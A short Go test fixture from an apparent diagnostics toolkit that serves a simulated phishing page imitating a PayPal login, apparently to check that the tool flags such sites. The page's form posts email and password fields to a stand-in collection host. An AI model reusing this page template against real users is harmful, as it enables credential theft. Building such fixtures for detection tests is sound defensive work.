package internet

import "github.com/diagkit/diagkit/diag/diagtest"

const phishingSite = "paypal-secure-login.example"

// servePhishing opens a site that looks like phishing. The brand that it imitates has no site in this world.
func servePhishing(world *diagtest.World) {
	world.HTTPS(phishingSite, file("text/html; charset=utf-8",
		`<!doctype html><title>PayPal: log in</title><h1>Sign in</h1><form method="post" action="https://collect.example/in">`+
			`<input name="email" type="email"><input name="pw" type="password"><button>Sign in</button></form>`))
}
